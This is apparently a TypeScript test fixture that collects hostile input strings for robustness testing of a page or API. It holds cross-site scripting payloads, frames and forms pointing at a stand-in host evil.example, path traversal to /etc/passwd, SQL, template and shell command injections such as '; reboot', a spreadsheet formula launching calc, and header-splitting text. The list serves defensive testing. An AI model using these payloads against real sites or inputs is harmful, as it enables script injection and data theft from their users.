import { HOSTILE_TEXT } from '#scripts/local/service/hostile-text.ts';

/** Longer than any field of a page is wide. */
const LONG = 10_000;

const SCRIPT = 'alert(document.domain)';

/** Markup that would run a script, load something or break out of an element if it were parsed. */
const MARKUP: readonly string[] = [
  HOSTILE_TEXT,
  ...['script', 'SCRIPT', 'scr\u0000ipt', 'script/x', 'script\n'].map(
    (name) => `<${name}>${SCRIPT}</script>`,
  ),
  ...['textarea', 'title', 'style', 'pre', 'td', 'table', 'a', 'button', 'svg', 'template'].map(
    (name) => `</${name}><script>${SCRIPT}</script>`,
  ),
  ...['img src=x', 'video src=x', 'audio src=x', 'object data=x', 'input type=image src=x'].map(
    (start) => `<${start} onerror="${SCRIPT}">`,
  ),
  ...['svg', 'body', 'iframe', 'details open ontoggle', 'style', 'math'].map(
    (start) => `<${start} onload=${SCRIPT}>`,
  ),
  ...['onfocus', 'onmouseover', 'onclick', 'onpointerenter', 'onanimationstart'].map(
    (name) => `" autofocus tabindex=1 ${name}="${SCRIPT}" x="`,
  ),
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  '<iframe src="//evil.example"></iframe>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<form action="//evil.example"><input name="password"><button>Sign in</button></form>',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">gone</div>',
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0"?>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template shadowrootmode="open"><slot></slot></template>',
  '<dialog open>dialog</dialog>',
  '<marquee>moves</marquee>',
  '<a href="javascript:alert(1)">link</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
];

/** What programs take for an address, a template, a query, a format or a name of their own. */
const MISTAKABLE: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  '//evil.example',
  '\\\\evil.example\\share',
  'https://evil.example/?q=%s',
  'https://user:password@evil.example/',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '{{constructor.constructor("alert(1)")()}}',
  ...['{{7*7}}', '$' + '{7*7}', '#{7*7}', '<%= 7*7 %>'],
  ...['%s%s%s%n', '%d %c %o', '$1 $& $`', '\\1\\g<0>', '{0} {1}'],
  ...["' OR '1'='1", '"; DROP TABLE messages; --', '$(reboot)', '`reboot`', '| reboot', '; reboot'],
  ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', 'then'],
  ...['undefined', 'null', 'NaN', 'Infinity', 'true', '[object Object]', 'None', '(null)'],
  ...['0', '-0', '1e999', '9007199254740993', '0x10', '1,000.00', '08', '٠١٢٣'],
  ...['9999-99-99', '2026-02-30T25:61:61Z', '-271821-04-20T00:00:00.000Z', '+275760-09-13'],
  ...['{}', '[]', '{"a":', '"', "'", '\\', '\\\\"', '"\\"'],
  ...['=1+1', '+1', '@SUM(A1)', '-2+3+cmd|" /C calc"!A0'],
  'expression(alert(1))',
  'url(javascript:alert(1))',
  'color:red;position:fixed',
  '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u001b[2J',
  '\r\nSet-Cookie: a=b\r\n\r\n<html>',
];

/** Every control of direction alone and around text, each left open. */
const BIDI: readonly string[] = [
  0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069,
].flatMap((code) => {
  const control = String.fromCodePoint(code);
  return [control, `before ${control}after gnp.exe`, control.repeat(200)];
});

const WRITING: readonly string[] = [
  'مرحبا بالعالم',
  'שלום עולם',
  'שלום world 123 עולם',
  'مرحبا (123) <b>',
  'سلام\u200cخانه',
  'हिन्दी देवनागरी',
  'ไม่มีช่องว่างระหว่างคำในภาษาไทย'.repeat(8),
  '日本語の文章には空白がありません。'.repeat(8),
  '한국어 조선말',
  'ﷺ'.repeat(20),
  '𒐫𒈙꧅'.repeat(10),
  'ǅ ß İ ı ſ ﬁ',
];

const EMOJI: readonly string[] = [
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈🏴‍☠️',
  '🇩🇪🇺🇸🇯🇵🇩',
  '👍🏻👍🏿🏿',
  '1️⃣#️⃣*️⃣',
  '❤️❤︎',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '👩‍👩‍👧‍👦'.repeat(300),
];

/** What has no width, more than one line, or more height than its line. */
const INVISIBLE: readonly string[] = [
  ...[0x00ad, 0x034f, 0x115f, 0x1680, 0x180e, 0x200b, 0x200c, 0x200d, 0x2028, 0x2029].map((code) =>
    String.fromCodePoint(code),
  ),
  ...[0x2060, 0x2061, 0x3000, 0x3164, 0xfe0f, 0xfeff, 0xfff9, 0xfffd, 0xfffe, 0xffff].map((code) =>
    String.fromCodePoint(code),
  ),
  ...[0xe000, 0xe0001, 0xe0041, 0x10ffff].map((code) => String.fromCodePoint(code)),
  ...[' ', '\t', '\n', '\r\n', '\n'.repeat(200), ' '.repeat(500), '\u00a0'.repeat(500)],
  'a\u200bb\u200bc'.repeat(100),
  'a\u0301\u0302\u0303\u0304'.repeat(20),
  `Z${'\u0337\u0321\u031b'.repeat(60)}algo`,
];

/** The control characters, each between two letters. */
const CONTROLS: readonly string[] = [
  ...Array.from({ length: 0x20 }, (_, code) => code),
  ...[0x7f, 0x80, 0x85, 0x90, 0x9b, 0x9f],
].map((code) => `a${String.fromCodePoint(code)}b`);

/** Texts of ten thousand characters, most of them without a place to break the line. */
export const LONG_STRINGS: readonly string[] = [
  'a',
  'W',
  '\u202e',
  '\u0301',
  '\u200b',
  'ﷺ',
  'm-',
  '/',
  '<b>',
  'words and ',
].map((text) => text.repeat(Math.ceil(LONG / text.length)).slice(0, LONG));

/** At least two hundred texts that pages, fonts and parsers may treat in a wrong way. The API accepts each of them. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...MARKUP,
  ...MISTAKABLE,
  ...BIDI,
  ...WRITING,
  ...EMOJI,
  ...INVISIBLE,
  ...CONTROLS,
];
